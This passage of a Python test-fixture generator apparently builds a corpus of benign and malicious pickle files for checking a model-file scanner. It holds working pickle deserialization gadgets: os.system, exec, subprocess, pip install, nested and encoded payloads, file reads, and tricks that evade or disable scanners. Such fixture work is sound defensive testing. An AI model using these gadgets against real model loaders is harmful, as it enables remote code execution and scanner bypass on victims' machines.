    write_bytes(d + "dill_builtin_types.pkl", dill.dumps({"types": [type(None), type(Ellipsis)]}))
    benign(d + "dill_builtin_types.pkl", None, "dill.dumps of built-in types (dill._dill._load_type by name)")
    write_bytes(d + "cloudpickle_plain_data.pkl", cloudpickle.dumps(data))
    benign(d + "cloudpickle_plain_data.pkl", None, "cloudpickle.dumps of plain data")


def safetensors_bytes(header_len_target=None):
    t = np.arange(4, dtype=np.float32).tobytes()
    header = {"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, len(t)]},
              "__metadata__": {"format": "pt"}}
    h = json.dumps(header, separators=(",", ":")).encode()
    if header_len_target is not None:
        assert len(h) <= header_len_target
        h = h + b" " * (header_len_target - len(h))
    else:
        h = h + b" " * ((8 - len(h) % 8) % 8)
    return struct.pack("<Q", len(h)) + h + t


def gen_benign_safetensors():
    d = "benign/safetensors/"
    benign(d + "model.safetensors", safetensors_bytes(), "ordinary safetensors file", "C40")
    data = safetensors_bytes(0x0280)
    assert data[:2] == b"\x80\x02"
    benign(d + "header_len_looks_like_pickle_proto2.safetensors", data,
           "safetensors whose header length 0x280 makes the file start with \\x80\\x02 "
           "(pickle PROTO 2 magic); must be routed as safetensors, not pickle", "C40")
    data = safetensors_bytes(0x0178)
    assert data[:2] == b"\x78\x01"
    benign(d + "header_len_looks_like_zlib.safetensors", data,
           "safetensors whose header length 0x178 makes the file start with \\x78\\x01 "
           "(zlib / joblib-zlib prefix)", "C40")


# --------------------------------------------------------------------------
# MALICIOUS


def inner_payload(proto=2):
    return pickle.dumps(R(os.system, CMD), protocol=proto)


def gen_malicious_pickle():
    d = "malicious/pickle/"

    # -- baseline os.system / posix.system at every protocol (real pickler output)
    for p in range(0, 6):
        bad(d + f"posix_system_p{p}.pkl", dumps(R(os.system, CMD), p),
            f"REDUCE os.system at protocol {p}; pickle writes it as posix.system (alias)",
            "posix.system", "B20")
    bad(d + "os_system_global_p0.pkl", pk(os_system_call(0, "os"), 0),
        "hand-written protocol-0 GLOBAL 'os system' + REDUCE", "os.system", "B20")
    bad(d + "os_system_stack_global_p4.pkl", pk(os_system_call(4, "os"), 4),
        "STACK_GLOBAL('os','system') + REDUCE, protocol 4, no FRAME", "os.system", "B20")
    bad(d + "nt_system.pkl", pk(os_system_call(2, "nt"), 2),
        "Windows alias nt.system", "nt.system", "B20")
    bad(d + "builtin_eval_py2_name.pkl",
        pk(call(ref("__builtin__", "eval", 2), PYSTMT), 2),
        "__builtin__.eval (Python 2 name, mapped to builtins by fix_imports)",
        "builtins.eval", "B20")
    bad(d + "builtins_exec.pkl", dumps(R(exec, PYSTMT), 4), "builtins.exec of a statement",
        "builtins.exec", "A2")
    bad(d + "builtins_eval.pkl", dumps(R(eval, PYSTMT), 2), "builtins.eval of an expression",
        "builtins.eval", "A2")
    bad(d + "builtins_compile_exec.pkl",
        dumps(R(exec, R(compile, PYSTMT, "<x>", "exec")), 3),
        "builtins.exec(builtins.compile(...))", "builtins.exec", "A2")

    # -- A1 pip
    bad(d + "pip_main.pkl",
        pk(call(ref("pip", "main", 2),
                ["install", "--index-url", "http://127.0.0.1:9/simple", "aigis-fixture-nonexistent"]), 2),
        "pip.main(['install', ...]) installs an attacker package (raw opcodes)", "pip.main", "A1")
    bad(d + "pip_internal_main.pkl",
        pk(call(ref("pip._internal.cli.main", "main", 4),
                ["install", "aigis-fixture-nonexistent"], proto=4), 4),
        "pip._internal.cli.main.main via STACK_GLOBAL", "pip._internal.cli.main.main", "A1")

    # -- A2 profilers / debuggers
    bad(d + "cprofile_run.pkl", dumps(R(cProfile.run, PYSTMT), 4), "cProfile.run(statement)",
        "cProfile.run", "A2")
    bad(d + "cprofile_runctx.pkl", dumps(R(cProfile.runctx, PYSTMT, {}, {}), 2),
        "cProfile.runctx(statement, {}, {})", "cProfile.runctx", "A2")
    bad(d + "profile_run.pkl", dumps(R(profile.run, PYSTMT), 2), "profile.run(statement)",
        "profile.run", "A2")
    bad(d + "pdb_run.pkl", dumps(R(pdb.run, PYSTMT), 4), "pdb.run(statement)", "pdb.run", "A2")
    bad(d + "bdb_run_p4.pkl", dumps(R(bdb.Bdb.run, R(bdb.Bdb), PYSTMT), 4),
        "bdb.Bdb.run(Bdb(), statement): STACK_GLOBAL('bdb','Bdb.run') dotted qualname",
        "bdb.Bdb.run", "A2")
    bad(d + "bdb_run_p2.pkl", dumps(R(bdb.Bdb.run, R(bdb.Bdb), PYSTMT), 2),
        "bdb.Bdb.run at protocol 2: the pickler emits __builtin__.getattr(bdb.Bdb, 'run')",
        "builtins.getattr + bdb.Bdb (= bdb.Bdb.run)", "A2")
    bad(d + "trace_runctx.pkl", dumps(R(trace.Trace.runctx, R(trace.Trace, 0, 0), PYSTMT, {}, {}), 4),
        "trace.Trace(0, 0).runctx(statement)", "trace.Trace.runctx", "A2")
    bad(d + "timeit_timeit.pkl", dumps(R(timeit.timeit, PYSTMT, "pass", time.perf_counter, 1), 4),
        "timeit.timeit(statement, 'pass', perf_counter, 1)", "timeit.timeit", "A2")

    # -- A3 runpy / code / doctest / idlelib / lib2to3
    bad(d + "runpy_run_code.pkl", dumps(R(runpy._run_code, PYSTMT, {}), 4),
        "runpy._run_code(source, globals)", "runpy._run_code", "A3")
    bad(d + "code_interactiveinterpreter_runcode.pkl",
        dumps(R(code.InteractiveInterpreter.runcode, R(code.InteractiveInterpreter), PYSTMT), 4),
        "code.InteractiveInterpreter().runcode(source)", "code.InteractiveInterpreter.runcode", "A3")
    import doctest
    bad(d + "doctest_debug_script.pkl", dumps(R(doctest.debug_script, PYSTMT), 2),
        "doctest.debug_script(source)", "doctest.debug_script", "A3")
    bad(d + "idlelib_runcode.pkl",
        pk(call(ref("idlelib.pyshell", "ModifiedInterpreter.runcode", 4), None, PYSTMT, proto=4), 4),
        "idlelib.pyshell.ModifiedInterpreter.runcode by name (idlelib not installed here)",
        "idlelib.pyshell.ModifiedInterpreter.runcode", "A3")
    from lib2to3.pgen2 import grammar
    bad(d + "lib2to3_grammar_loads.pkl",
        dumps(R(grammar.Grammar.loads, R(grammar.Grammar), inner_payload()), 4),
        "lib2to3 Grammar().loads(bytes) = pickle.loads of an embedded os.system pickle",
        "lib2to3.pgen2.grammar.Grammar.loads", "A3")

    # -- A4 stdlib helpers hiding subprocess / os.system
    bad(d + "uuid_get_command_stdout.pkl", dumps(R(uuid._get_command_stdout, "echo", "aigis-fixture"), 4),
        "uuid._get_command_stdout(cmd, *args)", "uuid._get_command_stdout", "A4")
    bad(d + "osx_support_read_output.pkl", dumps(R(_osx_support._read_output, CMD), 4),
        "_osx_support._read_output(command)", "_osx_support._read_output", "A4")
    bad(d + "osx_support_find_build_tool.pkl", dumps(R(_osx_support._find_build_tool, "x; " + CMD), 2),
        "_osx_support._find_build_tool (shell string)", "_osx_support._find_build_tool", "A4")
    bad(d + "aix_support_read_cmd_output.pkl",
        pk(call(ref("_aix_support", "_read_cmd_output", 4), CMD, proto=4), 4),
        "_aix_support._read_cmd_output(command) (raw opcodes; function is Python >= 3.12)", "_aix_support._read_cmd_output", "A4")
    bad(d + "imaplib_imap4_stream.pkl", dumps(R(imaplib.IMAP4_stream, CMD), 4),
        "imaplib.IMAP4_stream(command) spawns a shell", "imaplib.IMAP4_stream", "A4")
    bad(d + "pty_spawn.pkl", dumps(R(pty.spawn, ["echo", "aigis-fixture"]), 4),
        "pty.spawn(argv)", "pty.spawn", "A4")
    bad(d + "venv_create.pkl",
        dumps(R(venv.create, "/tmp/aigis-fixture-venv", False, False, False, False, True), 4),
        "venv.create(dir, with_pip=True) runs ensurepip in a subprocess", "venv.create", "A4")
    bad(d + "ensurepip_run_pip.pkl", dumps(R(ensurepip._run_pip, ["--version"]), 4),
        "ensurepip._run_pip(args)", "ensurepip._run_pip", "A4")
    bad(d + "multiprocessing_spawnv_passfds.pkl",
        dumps(R(multiprocessing.util.spawnv_passfds, "/bin/echo", ["echo", "aigis-fixture"], ()), 4),
        "multiprocessing.util.spawnv_passfds(path, args, fds)", "multiprocessing.util.spawnv_passfds", "A4")
    bad(d + "test_support_assert_python_ok.pkl",
        pk(call(ref("test.support.script_helper", "assert_python_ok", 4), "-c", PYSTMT, proto=4), 4),
        "test.support.script_helper.assert_python_ok('-c', code) (raw opcodes)",
        "test.support.script_helper.assert_python_ok", "A4")
    bad(d + "pyrepl_pipe_pager.pkl",
        pk(call(ref("_pyrepl.pager", "pipe_pager", 4), "x", CMD, proto=4), 4),
        "_pyrepl.pager.pipe_pager(text, cmd) by name (Python 3.13 module)", "_pyrepl.pager.pipe_pager", "A4")
    bad(d + "asyncio_unix_subprocess_start.pkl",
        pk(call(ref("asyncio.unix_events", "_UnixSubprocessTransport._start", 4),
                None, CMD, True, None, None, None, 0, proto=4), 4),
        "asyncio.unix_events._UnixSubprocessTransport._start by name (sub-module of asyncio)",
        "asyncio.unix_events._UnixSubprocessTransport._start", "A4")

    # -- A5 torch-internal gadgets
    bad(d + "torch_inductor_compile_file.pkl",
        pk(call(ref("torch._inductor.codecache", "compile_file", 4),
                "/tmp/aigis-in.c", "/tmp/aigis-out", ["sh", "-c", CMD], proto=4), 4),
        "torch._inductor.codecache.compile_file(in, out, cmd) by name (torch>=2.0)",
        "torch._inductor.codecache.compile_file", "A5")
    bad(d + "torch_collect_env_run.pkl", dumps(R(torch.utils.collect_env.run, CMD), 2),
        "torch.utils.collect_env.run(command) (shell=True)", "torch.utils.collect_env.run", "A5")
    bad(d + "torch_collect_env_run_and_read_all.pkl",
        dumps(R(torch.utils.collect_env.run_and_read_all, torch.utils.collect_env.run, CMD), 4),
        "torch.utils.collect_env.run_and_read_all(run, command)",
        "torch.utils.collect_env.run_and_read_all", "A5")
    bad(d + "torch_jit_execwrapper.pkl",
        dumps(R(torch.jit.unsupported_tensor_ops.execWrapper, PYSTMT, {}, {}), 4),
        "torch.jit.unsupported_tensor_ops.execWrapper(code, glob, loc) = exec",
        "torch.jit.unsupported_tensor_ops.execWrapper", "A5")
    bad(d + "torch_bottleneck_run_cprofile.pkl",
        dumps(R(bottleneck_main.run_cprofile, PYSTMT, {}), 4),
        "torch.utils.bottleneck.__main__.run_cprofile(code, globs)",
        "torch.utils.bottleneck.__main__.run_cprofile", "A5")
    bad(d + "torch_dynamo_guardbuilder_get.pkl",
        pk(call(ref("torch._dynamo.guards", "GuardBuilder.get", 4), None, PYSTMT, proto=4), 4),
        "torch._dynamo.guards.GuardBuilder.get by name (eval)", "torch._dynamo.guards.GuardBuilder.get", "A5")
    bad(d + "torch_shapeenv_evaluate_guards_expression.pkl",
        pk(call(ref("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", 4),
                None, PYSTMT, [], proto=4), 4),
        "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression by name (eval)",
        "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression", "A5")

    # -- A6 nested loaders
    inner = inner_payload()
    bad(d + "pickle_loads_nested.pkl", pk(call(ref("pickle", "loads", 3), inner, proto=3), 3),
        "pickle.loads(bytes) of an embedded posix.system pickle (raw opcodes)",
        "pickle.loads (+ nested posix.system)", "A6")
    bad(d + "_pickle_loads_nested.pkl", dumps(R(pickle.loads, inner), 4),
        "_pickle.loads (what the pickler writes for pickle.loads) of embedded payload",
        "_pickle.loads (+ nested posix.system)", "A6")
    bad(d + "pickle_loads_base64.pkl",
        dumps(R(pickle.loads, R(base64.b64decode, base64.b64encode(inner).decode())), 4),
        "_pickle.loads(base64.b64decode('...')): payload hidden in base64 text",
        "_pickle.loads + base64.b64decode (+ nested posix.system)", "A6")
    bad(d + "pickle_loads_zlib.pkl",
        dumps(R(pickle.loads, R(zlib.decompress, zlib.compress(inner, 9))), 4),
        "_pickle.loads(zlib.decompress(b'...')): zlib-compressed inner pickle",
        "_pickle.loads + zlib.decompress (+ nested posix.system)", "A6")
    bad(d + "torch_load_from_bytes.pkl", dumps(R(torch.storage._load_from_bytes, inner), 2),
        "torch.storage._load_from_bytes(b) = torch.load(weights_only=False) on an embedded pickle "
        "(protocol 2: the bytes argument is written as _codecs.encode(str, 'latin1'))",
        "torch.storage._load_from_bytes (+ nested posix.system)", "A6")
    bad(d + "functools_partial_torch_load.pkl",
        dumps(R(functools.partial(torch.load, "/tmp/aigis-fixture.pt", weights_only=False)), 4),
        "functools.partial(torch.load, path)() loads a second file with pickle",
        "functools.partial + torch.serialization.load", "A6")

    # -- A7 universal resolvers
    bad(d + "pkgutil_resolve_name.pkl", dumps(R(R(pkgutil.resolve_name, "os:system"), CMD), 4),
        "pkgutil.resolve_name('os:system')('echo ...')", "pkgutil.resolve_name", "A7")
    bad(d + "pydoc_locate_methodcaller.pkl",
        dumps(R(R(operator.methodcaller, "system", CMD), R(pydoc.locate, "os")), 4),
        "operator.methodcaller('system', cmd)(pydoc.locate('os'))",
        "pydoc.locate + operator.methodcaller", "A7")
    bad(d + "pydoc_locate_call.pkl", dumps(R(R(pydoc.locate, "os.system"), CMD), 2),
        "pydoc.locate('os.system')('echo ...')", "pydoc.locate", "A7")
    bad(d + "importlib_import_module.pkl",
        dumps(R(R(operator.methodcaller, "system", CMD), R(importlib.import_module, "os")), 4),
        "operator.methodcaller('system', cmd)(importlib.import_module('os'))",
        "importlib.import_module + operator.methodcaller", "A7")

    # -- A8 attribute access primitives
    bad(d + "getattr_import_os_system.pkl",
        dumps(R(R(getattr, R(__import__, "os"), "system"), CMD), 4),
        "builtins.getattr(builtins.__import__('os'), 'system')('echo ...')",
        "builtins.getattr + builtins.__import__", "A8")
    bad(d + "operator_attrgetter.pkl",
        dumps(R(R(R(operator.attrgetter, "system"), R(__import__, "os")), CMD), 2),
        "operator.attrgetter('system')(__import__('os'))(cmd)",
        "operator.attrgetter + builtins.__import__", "A8")
    bad(d + "_operator_attrgetter.pkl",
        pk(call(call(call(ref("_operator", "attrgetter", 4), "system", proto=4),
                     call(ref("builtins", "__import__", 4), "os", proto=4), proto=4), CMD, proto=4), 4),
        "_operator.attrgetter (C module alias) chain", "_operator.attrgetter + builtins.__import__", "A8")
    bad(d + "operator_methodcaller_import.pkl",
        dumps(R(R(operator.methodcaller, "system", CMD), R(__import__, "os")), 4),
        "operator.methodcaller('system', cmd)(__import__('os'))",
        "operator.methodcaller + builtins.__import__", "A8")
    bad(d + "operator_itemgetter_vars.pkl",
        dumps(R(R(R(operator.itemgetter, "system"), R(vars, R(__import__, "os"))), CMD), 4),
        "operator.itemgetter('system')(vars(__import__('os')))(cmd)",
        "operator.itemgetter + builtins.vars + builtins.__import__", "A8")
    bad(d + "functools_partial_os_system.pkl",
        dumps(R(R(functools.partial, os.system, CMD)), 4),
        "functools.partial(os.system, cmd)()", "functools.partial + posix.system", "A8")
    bad(d + "functools_reduce_getattr.pkl",
        dumps(R(R(functools.reduce, getattr, ["system"], R(__import__, "os")), CMD), 4),
        "functools.reduce(getattr, ['system'], __import__('os'))(cmd)",
        "_functools.reduce + builtins.getattr + builtins.__import__", "A8")

    # -- A9 code-object smuggling
    fn_code = compile(PYSTMT, "<aigis-fixture>", "exec")
    mbytes = marshal.dumps(fn_code)
    bad(d + "marshal_functiontype.pkl",
        pk(call(call(ref("types", "FunctionType", 3),
                     call(ref("marshal", "loads", 3), mbytes, proto=3), {}, proto=3), proto=3), 3),
        "types.FunctionType(marshal.loads(b'...'), {})() (CPython 3.11 marshal)",
        "types.FunctionType + marshal.loads", "A9")
    bad(d + "marshal_b64_functiontype.pkl",
        pk(call(call(ref("types", "FunctionType", 4),
                     call(ref("marshal", "loads", 4),
                          call(ref("base64", "b64decode", 4), base64.b64encode(mbytes).decode(), proto=4),
                          proto=4), {}, proto=4), proto=4), 4),
        "types.FunctionType(marshal.loads(base64.b64decode('...')), {})()",
        "types.FunctionType + marshal.loads + base64.b64decode", "A9")
    co = fn_code
    co_args = (co.co_argcount, co.co_posonlyargcount, co.co_kwonlyargcount, co.co_nlocals,
               co.co_stacksize, co.co_flags, co.co_code, co.co_consts, co.co_names, co.co_varnames,
               co.co_filename, co.co_name, co.co_qualname, co.co_firstlineno, co.co_linetable,
               co.co_exceptiontable, co.co_freevars, co.co_cellvars)
    bad(d + "types_codetype.pkl",
        pk(call(call(ref("types", "FunctionType", 4),
                     call(ref("types", "CodeType", 4), *co_args, proto=4), {}, proto=4), proto=4), 4),
        "types.CodeType(<3.11 code fields>) wrapped in types.FunctionType and called",
        "types.CodeType + types.FunctionType", "A9")
    ns = {}
    exec(compile("f = lambda: __import__('os').system('echo aigis-fixture')",
                 "<aigis-fixture>", "exec"), ns)
    bad(d + "cloudpickle_lambda.pkl", cloudpickle.dumps(ns["f"], protocol=4),
        "cloudpickle.dumps(lambda) smuggles a code object (_builtin_type('CodeType'), "
        "_make_function)", "cloudpickle.cloudpickle._builtin_type + cloudpickle.cloudpickle._make_function", "A9")
    bad(d + "dill_lambda.pkl", dill.dumps(ns["f"]),
        "dill.dumps(lambda): dill._dill._create_code / _create_function (+ builtins.__dict__)",
        "dill._dill._create_code + dill._dill._create_function", "A9")

    # -- A10 numpy gadgets
    bad(d + "numpy_runstring.pkl", dumps(R(numpy.testing._private.utils.runstring, PYSTMT, {}), 4),
        "numpy.testing._private.utils.runstring(code, dict) = exec",
        "numpy.testing._private.utils.runstring", "A10")
    bad(d + "numpy_f2py_getlincoef.pkl",
        dumps(R(numpy.f2py.crackfortran.getlincoef, PYSTMT, {}), 4),
        "numpy.f2py.crackfortran.getlincoef(expr, xset) (eval)", "numpy.f2py.crackfortran.getlincoef", "A10")
    bad(d + "numpy_f2py_eval_length.pkl",
        dumps(R(numpy.f2py.crackfortran._eval_length, PYSTMT, {}), 4),
        "numpy.f2py.crackfortran._eval_length(length, params) (eval)",
        "numpy.f2py.crackfortran._eval_length", "A10")

    # -- A11 exfiltration / SSRF / file primitives
    bad(d + "ssl_get_server_certificate.pkl",
        dumps(R(ssl.get_server_certificate, ("aigis-fixture.example.invalid", 443)), 4),
        "ssl.get_server_certificate((host, 443)): DNS lookup = exfiltration channel",
        "ssl.get_server_certificate", "A11")
    bad(d + "urllib_request_urlopen.pkl", dumps(R(urllib.request.urlopen, LOCAL_URL), 4),
        "urllib.request.urlopen(url)", "urllib.request.urlopen", "A11")
    import requests
    bad(d + "requests_get.pkl", dumps(R(requests.get, LOCAL_URL), 4),
        "requests.get(url) (pickled as requests.api.get)", "requests.api.get", "A11")
    import http.client
    bad(d + "http_client_connection_request.pkl",
        dumps(R(R(operator.methodcaller, "request", "GET", "/"),
                R(http.client.HTTPConnection, "127.0.0.1", 9)), 4),
        "methodcaller('request','GET','/')(http.client.HTTPConnection('127.0.0.1', 9))",
        "http.client.HTTPConnection + operator.methodcaller", "A11")
    bad(d + "socket_create_connection.pkl", dumps(R(socket.create_connection, ("127.0.0.1", 9)), 4),
        "socket.create_connection((host, port))", "socket.create_connection", "A11")
    bad(d + "webbrowser_open.pkl", dumps(R(webbrowser.open, "http://aigis-fixture.example.invalid/"), 4),
        "webbrowser.open(url)", "webbrowser.open", "A11")
    bad(d + "logging_filehandler.pkl", dumps(R(logging.FileHandler, "/tmp/aigis-fixture.log"), 4),
        "logging.FileHandler(path) creates/opens a file", "logging.FileHandler", "A11")
    bad(d + "io_fileio.pkl", pk(call(ref("io", "FileIO", 2), "/etc/hostname"), 2),
        "io.FileIO(path) (raw 'io FileIO')", "io.FileIO", "A11")
    bad(d + "_io_fileio_read.pkl",
        dumps(R(R(operator.methodcaller, "read"), R(io.FileIO, "/etc/hostname")), 4),
        "methodcaller('read')(_io.FileIO(path)): file read", "_io.FileIO", "A11")
    bad(d + "shutil_rmtree.pkl", dumps(R(shutil.rmtree, "/tmp/aigis-fixture-nonexistent"), 4),
        "shutil.rmtree(path)", "shutil.rmtree", "A11")
    bad(d + "pandas_read_csv_url.pkl", dumps(R(pd.read_csv, LOCAL_URL + ".csv"), 4),
        "pandas.read_csv(URL) (pickled as pandas.io.parsers.readers.read_csv)",
        "pandas.io.parsers.readers.read_csv", "A11")
    bad(d + "distutils_write_file.pkl",
        pk(call(ref("distutils.file_util", "write_file", 4), "/tmp/aigis-fixture.txt", ["x"], proto=4), 4),
        "distutils.file_util.write_file(path, lines) (raw opcodes)", "distutils.file_util.write_file", "A11")

    # -- A12 FFI
    import ctypes
    bad(d + "ctypes_cdll_system.pkl",
        dumps(R(R(getattr, R(ctypes.CDLL, None), "system"), CMD.encode()), 4),
        "getattr(ctypes.CDLL(None), 'system')(b'echo ...')", "ctypes.CDLL", "A12")

    # -- A13 third-party gadget
    bad(d + "mlflow_run_entry_point.pkl",
        pk(call(ref("mlflow.projects.backend.local", "_run_entry_point", 4),
                CMD, "/tmp", "aigis-fixture", {}, proto=4), 4),
        "mlflow.projects.backend.local._run_entry_point(command, ...) by name",
        "mlflow.projects.backend.local._run_entry_point", "A13")

    # -- A14 runtime tampering: write into the real sys.modules dict, then payload
    body = (glob("sys", "modules") + enc("picklescan", 2) + b"N" + SETITEM + POP
            + os_system_call(2, "os"))
    bad(d + "sys_modules_override.pkl", pk(body, 2),
        "GLOBAL sys.modules + SETITEM (disables a scanner module in-process), then os.system",
        "sys.modules (+ os.system)", "A14")


def gen_malicious_vm():
    d = "malicious/pickle_vm/"

    # B15 memo confusion. VM: MEMOIZE stores at len(memo), overwriting keys that PUT
    # placed earlier. A memo model that gives MEMOIZE a fresh key (max key + 1) resolves
    # BINGET 1 / BINGET 3 to 'collections' / 'OrderedDict'; the VM sees posix.system.
    body = (enc("collections", 4) + binput(1) + POP      # memo {1: collections}   len 1
            + enc("posix", 4) + MEMOIZE + POP            # memo[1] = posix          len 1
            + enc("OrderedDict", 4) + binput(3) + POP    # memo {1, 3}              len 2
            + enc("pad", 4) + binput(0) + POP            # memo {0, 1, 3}           len 3
            + enc("system", 4) + MEMOIZE + POP           # memo[3] = system
            + binget(1) + binget(3) + STACK_GLOBAL
            + enc((CMD,), 4) + REDUCE)
    bad(d + "memo_confusion_memoize_vs_binput.pkl", pk(body, 4),
        "MEMOIZE stores at len(memo), so after BINPUT 1 / BINPUT 3 it overwrites slots 1 and 3; "
        "the VM resolves BINGET 1, BINGET 3 to posix.system, a memo model giving MEMOIZE a "
        "fresh key (max+1) sees collections.OrderedDict", "posix.system", "B15")

    # B16 resolver crash: payload first, then a never-stored memo key / non-str operand
    body = (os_system_call(4, "os") + POP + enc("os", 4) + MEMOIZE
            + binget(3) + binget(0) + STACK_GLOBAL)
    bad(d + "keyerror_memo_after_payload.pkl", pk(body, 4),
        "os.system REDUCE, then STACK_GLOBAL(memo[3] never stored, 'os'): loader fails after "
        "the payload ran; resolvers that crash on the missing key must not report clean",
        "os.system", "B16")
    body = (os_system_call(4, "os") + POP + enc(42, 4) + MEMOIZE + enc("os", 4) + MEMOIZE
            + binget(0) + binget(1) + STACK_GLOBAL)
    bad(d + "type_confusion_memo_after_payload.pkl", pk(body, 4),
        "os.system REDUCE, then STACK_GLOBAL(int 42, 'os') (non-string memo value)",
        "os.system", "B16")

    # B17 STACK_GLOBAL with STRING / BINSTRING operands, no PROTO, at offset 0
    body = (b"S'posix'\n" + b"T" + struct.pack("<I", 6) + b"system" + STACK_GLOBAL
            + b"(U\x12" + CMD.encode() + TUPLE + REDUCE)
    bad(d + "stack_global_string_binstring_no_proto.pkl", body + STOP,
        "no PROTO; STACK_GLOBAL operands from STRING and BINSTRING, arg SHORT_BINSTRING",
        "posix.system", "B17")
    body = (b"Vposix\np0\n0" + enc("system", 2) + b"r" + struct.pack("<I", 7) + POP
            + b"g0\n" + b"j" + struct.pack("<I", 7) + STACK_GLOBAL + enc((CMD,), 2) + REDUCE)
    bad(d + "stack_global_from_memo_get.pkl", pk(body, 2),
        "PROTO 2 (!) then STACK_GLOBAL whose operands come from text PUT/GET and LONG_BINPUT/"
        "LONG_BINGET", "posix.system", "B17")

    # B18 computed module name
    body = (sglob("codecs", "decode") + enc(("cbfvk", "rot13"), 4) + REDUCE
            + enc("system", 4) + STACK_GLOBAL + enc((CMD,), 4) + REDUCE)
    bad(d + "computed_module_name_rot13.pkl", pk(body, 4),
        "STACK_GLOBAL module operand computed at load time: codecs.decode('cbfvk','rot13') "
        "== 'posix'; static resolution must fail closed",
        "STACK_GLOBAL(<computed>, 'system') = posix.system", "B18")

    # B19 dotted traversal
    bad(d + "dotted_stack_global_pathlib_os_system.pkl",
        pk(call(Raw(sglob("pathlib", "os.system")), CMD, proto=4), 4),
        "STACK_GLOBAL('pathlib', 'os.system'): protocol-4 find_class walks attributes",
        "pathlib.os.system (= os.system)", "B19")
    bad(d + "dotted_global_opcode_proto4.pkl",
        pk(call(Raw(glob("zipfile", "os.system")), CMD, proto=4), 4),
        "GLOBAL 'zipfile' 'os.system' under PROTO 4 (dotted names allowed for GLOBAL too)",
        "zipfile.os.system (= os.system)", "B19")

    # B21 other call opcodes
    body = (MARK + glob("subprocess", "Popen") + enc(["echo", "aigis-fixture"], 2) + OBJ + POP
            + enc({"weights": [1.0]}, 2))
    bad(d + "subprocess_popen_obj_pop.pkl", pk(body, 2),
        "OBJ calls subprocess.Popen(argv), result discarded by POP; visible value is a benign dict",
        "subprocess.Popen", "B21")
    body = MARK + enc(["echo", "aigis-fixture"], 0) + b"isubprocess\nPopen\n" + POP + b"(d"
    bad(d + "subprocess_popen_inst.pkl", pk(body, 0),
        "protocol-0 INST subprocess.Popen(argv), POP", "subprocess.Popen", "B21")
    body = MARK + enc(CMD, 0) + b"iposix\nsystem\n"
    bad(d + "inst_posix_system.pkl", pk(body, 0),
        "INST on a function: INST calls posix.system(cmd) when args are present",
        "posix.system", "B21")
    body = glob("subprocess", "Popen") + enc((["echo", "aigis-fixture"],), 2) + NEWOBJ
    bad(d + "subprocess_popen_newobj.pkl", pk(body, 2),
        "NEWOBJ with subprocess.Popen (cls.__new__; still a dangerous class import)",
        "subprocess.Popen", "B21")
    body = sglob("subprocess", "Popen") + enc((["echo", "aigis-fixture"],), 4) + enc({"shell": False}, 4) + NEWOBJ_EX
    bad(d + "subprocess_popen_newobj_ex.pkl", pk(body, 4),
        "NEWOBJ_EX (protocol 4) with subprocess.Popen, args and kwargs",
        "subprocess.Popen", "B21")
    body = (sglob("types", "SimpleNamespace") + b")" + NEWOBJ
            + enc({"__setstate__": Raw(sglob("posix", "system"))}, 4) + BUILD
            + enc(CMD, 4) + BUILD)
    bad(d + "build_setstate_injection.pkl", pk(body, 4),
        "BUILD puts __setstate__=posix.system into an instance dict, second BUILD calls "
        "inst.__setstate__(cmd): a call without REDUCE/OBJ/INST", "posix.system (via BUILD)", "B21")
    body = (sglob("logging", "FileHandler") + b")" + NEWOBJ
            + enc({"baseFilename": "/tmp/aigis-fixture.log", "mode": "a"}, 4) + BUILD)
    bad(d + "build_dangerous_class_state.pkl", pk(body, 4),
        "NEWOBJ of logging.FileHandler then BUILD of its state dict (object of a file-writing "
        "class materialised without __init__)", "logging.FileHandler", "B21")

    # B22 extension registry
    for opname, code_ in [("ext1", 0xF0), ("ext2", 0xF00D), ("ext4", 0x12345678)]:
        copyreg.add_extension("posix", "system", code_)
        try:
            data = dumps(R(os.system, CMD), 2)
        finally:
            copyreg.remove_extension("posix", "system", code_)
        bad(d + f"{opname}_extension_code.pkl", data,
            f"{opname.upper()} code {code_:#x} (copyreg registry, here posix.system) instead of GLOBAL; "
            "resolves only if the loading process registered it: treat as unresolved",
            f"{opname.upper()} extension code", "B22")

    # B23 stacked pickles
    bad(d + "stacked_payload_in_second_stream.pkl",
        pickle.dumps({"weights": [1.0, 2.0]}, protocol=2) + dumps(R(os.system, CMD), 2),
        "benign first pickle, posix.system in the second stream after STOP", "posix.system", "B23")
    bad(d + "stacked_payload_in_third_stream.pkl",
        pickle.dumps(1, protocol=2) + pickle.dumps(2, protocol=4) + dumps(R(exec, PYSTMT), 0),
        "three stacked streams, payload in the third (protocol 0, written __builtin__.exec)",
        "builtins.exec", "B23")

    # B24 broken pickles (nullifAI)
    p = dumps(R(os.system, CMD), 2)
    bad(d + "nullifai_truncated.pkl", p[:-1] + b"X\xff\xff\x00\x00trunc",
        "payload then BINUNICODE claiming 65535 bytes at EOF, no STOP", "posix.system", "B24")
    bad(d + "nullifai_invalid_opcode.pkl", p[:-1] + b"\xff\xfe garbage",
        "payload then invalid opcode bytes, no STOP", "posix.system", "B24")
    p4 = dumps(R(os.system, CMD), 4)
    bad(d + "nullifai_frame_too_long.pkl", p4[:-1] + b"\x95" + struct.pack("<Q", 10**6) + b"N",
        "protocol-4 payload then a FRAME announcing 1e6 bytes that are not there",
        "posix.system", "B24")

    # B26 misplaced / duplicate PROTO
    body = enc({"a": 1}, 2) + POP + proto_op(4) + os_system_call(4, "os")
    bad(d + "misplaced_proto.pkl", pk(body, 2),
        "PROTO 2, benign value, second PROTO 4 mid-stream, then os.system", "os.system", "B26")

    # B27 expansion (billion laughs): 30 nested levels of lists of 10 refs each
    body = bytearray(b"]" + MEMOIZE + POP)  # memo 0: []
    for i in range(1, 31):
        body += MARK + binget(i - 1) * 10 + b"l" + MEMOIZE  # memo i
        if i < 30:
            body += POP
    # Loading it runs nothing and CPython loads it instantly (the references
    # are shared), so it is not an attack on the loader: it is kept with the
    # benign files, where the scan must stay bounded and quiet.
    benign("benign/pickle/memo_expansion_shared_refs.pkl", pk(bytes(body), 4),
           "30 levels x 10 shared refs (10^30 leaves if expanded); no callable, loads instantly in "
           "CPython; a scanner that expands references never terminates (B27)", "B27")


def legacy_torch_parts(path):
    """Split a legacy torch file into (list of pickle byte-strings, trailing bytes)."""
    import pickletools
    data = open(path, "rb").read()
    parts = []
    pos = 0
    for _ in range(5):
        end = None
        for op, arg, p in pickletools.genops(io.BytesIO(data[pos:])):
            if op.name == "STOP":
                end = pos + p + 1
                break
